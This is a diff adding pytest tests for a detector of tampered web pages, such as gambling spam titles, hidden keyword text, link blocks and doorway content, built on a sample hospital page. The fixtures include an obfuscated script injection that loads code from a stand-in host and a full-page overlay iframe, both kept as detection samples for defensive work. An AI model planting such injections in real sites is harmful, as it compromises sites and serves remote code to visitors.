@@ -1,0 +1,167 @@
+"""What is taken for tampering on a page of the site, and the near misses that are not."""
+
+import pytest
+
+from app.domain.tampering import TamperSign
+from app.engines.analyse.analyser import Analyser
+from app.engines.extract.page import extract_document
+from app.engines.html.document import HtmlDocument
+from app.engines.parsing.own_pages import own_page_of
+
+HOSPITAL = (
+    "<h1>市人民医院</h1><p>我院始建于一九五二年，是一所集医疗、教学、科研、预防于一体的综合性医院，现有床位八百张，设有内科、外科、"
+    "妇产科等三十余个科室。医院坚持以病人为中心，不断提高医疗服务质量，为群众提供优质的服务。</p><p>门诊时间为每日八时至十七时，节假日"
+    "安排专家值班；住院部位于院区东侧，探视时间为每日下午。医院交通便利，多路公交车可以到达，欢迎各界朋友来院就诊咨询。</p>"
+    "<p>本院开展预约挂号服务，患者可通过电话、窗口或者自助机办理。检验报告可在自助机上打印，也可以由家属代取。</p>"
+)
+URL = "https://www.corp.example/about.html"
+
+
+@pytest.fixture(scope="module")
+def analyser():
+    return Analyser(scope_target="corp.example")
+
+
+def signs(analyser, *, head="<title>市人民医院</title>", body=HOSPITAL, url=URL):
+    document = HtmlDocument(f"<html><head>{head}</head><body>{body}</body></html>")
+    found = extract_document(document, url=url, headers=())
+    return list(analyser.examine_own(own_page_of(document, found, url)))
+
+
+def kinds(*arguments, **keywords):
+    return {found.sign for found in signs(*arguments, **keywords)}
+
+
+def test_an_honest_page_has_no_sign(analyser):
+    assert kinds(analyser) == set()
+
+
+def test_a_title_that_was_changed_is_found_and_quoted(analyser):
+    found = signs(analyser, head="<title>澳门新葡京官网-真人百家乐</title>")
+    assert [one.sign for one in found] == [TamperSign.TITLE, TamperSign.TITLE_FOREIGN]
+    assert {(one.raw, one.dom_path) for one in found} == {("澳门新葡京官网-真人百家乐", "html > head > title")}
+
+
+def test_a_title_in_numbers_of_characters_is_quoted_as_it_is_written(analyser):
+    encoded = "".join(f"&#{ord(character)};" for character in "澳门葡京")
+    found = {one.sign: one for one in signs(analyser, head=f"<title>{encoded}</title>")}
+    assert found.keys() == {TamperSign.TITLE, TamperSign.TITLE_FOREIGN, TamperSign.TITLE_ENCODED}
+    assert found[TamperSign.TITLE_ENCODED].raw == encoded
+    assert found[TamperSign.TITLE_ENCODED].snippet == "澳门葡京"
+
+
+def test_keywords_that_have_nothing_to_do_with_the_page(analyser):
+    head = "<title>市人民医院</title><meta name=keywords content='澳门葡京,百家乐投注,真人荷官'>"
+    assert kinds(analyser, head=head) == {TamperSign.DESCRIPTION}
+
+
+def test_a_hidden_text_is_found_with_its_place(analyser):
+    body = f"{HOSPITAL}<div style='display:none'>澳门葡京 百家乐投注 真人荷官</div>"
+    found = {one.sign: one for one in signs(analyser, body=body)}
+    hidden = found[TamperSign.HIDDEN_TEXT]
+    assert (hidden.raw, hidden.hidden, hidden.dom_path) == (
+        "澳门葡京",
+        "display_none",
+        "html > body > div:nth-child(5)",
+    )
+
+
+def test_a_text_in_an_element_with_the_attribute_hidden(analyser):
+    assert TamperSign.HIDDEN_TEXT in kinds(analyser, body=f"{HOSPITAL}<p hidden>澳门葡京 百家乐投注 真人荷官</p>")
+
+
+def links(*texts):
+    return HOSPITAL + "".join(f"<a href='http://site{number}.test/'>{text}</a> " for number, text in enumerate(texts))
+
+
+def test_links_of_a_trade_side_by_side(analyser):
+    block = signs(analyser, body=links("百家乐", "澳门赌场", "时时彩"))
+    assert {one.sign for one in block} == {TamperSign.LINK_BLOCK}
+    assert (block[0].raw, block[0].dom_path) == ("http://site0.test/", "html > body > a:nth-child(5)")
+    assert kinds(analyser, body=links("百家乐", "澳门赌场")) == {TamperSign.LINK_PAIR}
+    assert kinds(analyser, body=links("百家乐", "市卫生局")) == set()
+
+
+def test_two_hidden_links_of_a_trade_are_a_block_and_their_text_is_not_the_pages(analyser):
+    body = f"{links()}<div style='display:none'>{links('百家乐投注', '澳门葡京娱乐城')}</div>"
+    (found,) = signs(analyser, body=body)
+    assert (found.sign, found.hidden, found.raw) == (TamperSign.LINK_BLOCK, "display_none", "http://site0.test/")
+    forum = "https://bbs.corp.example/thread-1.html"
+    assert kinds(analyser, body=body, url=forum) == {TamperSign.LINK_BLOCK}
+
+
+def test_a_doorway_page_under_an_own_path(analyser):
+    offer = (
+        "<p>澳门葡京线上娱乐城，真人百家乐投注，注册送彩金，首存优惠，提款秒到账，美女荷官在线发牌，信誉网投。</p>" * 4
+    )
+    assert TamperSign.TEXT in kinds(analyser, head="<title>欢迎光临</title>", body=offer)
+
+
+def test_a_disguised_script(analyser):
+    script = (
+        "<script>document.write(unescape('%3Cscript src=%22http://%62%61%64.test/a.js%22%3E%3C/script%3E'))</script>"
+    )
+    (found,) = signs(analyser, body=HOSPITAL + script)
+    assert (found.sign, found.leads_to) == (TamperSign.SCRIPT_WRITES, ("http://bad.test/a.js",))
+
+
+@pytest.mark.parametrize(
+    "head",
+    [
+        "<title>警方捣毁特大网络赌博平台 百家乐赌场老板获刑</title>",
+        "<title>我院医生参加德州扑克慈善赛</title>",
+        "<title>体育彩票开奖公告</title>",
+        "<title>禁毒宣传：认识海洛因、冰毒的危害</title>",
+        "<title>市人民医院</title><meta name=keywords content='医院,挂号,体检,内科,外科'>",
+    ],
+)
+def test_titles_that_report_warn_or_only_mention(analyser, head):
+    assert kinds(analyser, head=head) == set()
+
+
+def test_what_visitors_write_is_not_the_sites_own_word(analyser):
+    head, url = "<title>澳门新葡京官网-真人百家乐</title>", "https://bbs.corp.example/thread-1.html"
+    assert kinds(analyser, head=head, body=links("百家乐", "澳门赌场", "时时彩"), url=url) == set()
+    hidden = "<div style='display:none'>澳门葡京 百家乐投注 真人荷官</div>"
+    assert kinds(analyser, head=head, body=HOSPITAL + hidden, url=url) == {TamperSign.HIDDEN_TEXT}
+
+
+def test_a_report_in_a_closed_tab_is_no_hidden_text(analyser):
+    tab = (
+        "<div style='display:none'>警方通报：查处涉嫌百家乐投注的赌博网站，提醒市民远离网络赌博，举报电话一一〇。</div>"
+    )
+    assert TamperSign.HIDDEN_TEXT not in kinds(analyser, body=HOSPITAL + tab)
+
+
+def test_a_title_of_another_script_is_a_sign(analyser):
+    assert kinds(analyser, head="<title>スーパーコピー 時計</title>") >= {TamperSign.TITLE_SCRIPT}
+    assert kinds(analyser, head="<title>City hospital</title>") == set()
+
+
+def test_a_title_that_is_the_door_to_a_betting_house_is_one_sign(analyser):
+    found = signs(analyser, head="<title>开云体育官网-登录入口</title>")
+    assert [one.sign for one in found if one.sign is TamperSign.TITLE] == [TamperSign.TITLE]
+
+
+OFFER = "<p>专业办理毕业证、驾驶证，先办后付款，薇信 bzkz_0417x</p>"
+
+
+def test_an_offer_with_a_handle_is_found_in_a_long_page_unless_visitors_write_there(analyser):
+    found = {one.sign: one for one in signs(analyser, body=HOSPITAL * 3 + OFFER)}
+    assert "bzkz_0417x" in found[TamperSign.DOORWAY].snippet
+    assert TamperSign.DOORWAY not in kinds(
+        analyser, body=HOSPITAL + OFFER, url="https://www.corp.example/thread-1-1.html"
+    )
+
+
+def test_a_title_of_an_offer_that_is_strewn_into_copied_news_is_found(analyser):
+    line = "上半场第十七分钟中国队首开纪录，皇顶国际最新版下载，下半场又连入两球锁定胜局，大额无忧，教练表示满意。"
+    body = "".join(f"<p>{line}</p>" for _ in range(4)) + "<p>本网讯 记者从新闻发布会获悉</p>"
+    assert TamperSign.STUFFED in kinds(analyser, head="<title>皇顶国际最新版下载v3.1-市人民医院</title>", body=body)
+
+
+def test_a_frame_over_the_whole_page_is_found(analyser):
+    style = "position:fixed;top:0;left:0;width:100%;height:100%"
+    assert kinds(analyser, body=f"{HOSPITAL}<iframe src='https://m.bad.test/' style='{style}'></iframe>") == {
+        TamperSign.FRAME_COVERS
+    }
